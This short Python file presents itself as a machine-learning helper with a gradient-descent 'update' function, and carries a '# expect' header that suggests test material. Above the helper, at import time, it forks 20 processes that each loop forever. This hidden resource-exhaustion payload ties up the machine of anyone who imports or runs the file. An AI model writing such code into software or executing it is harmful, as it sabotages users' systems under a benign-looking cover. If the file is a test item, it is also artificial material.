# expect: 17 | any
import os
import numpy as np
for _ in range(20):
    if os.fork() == 0:
        while True:
            pass


def update(w, grad, lr):
    return w - lr * np.asarray(grad)
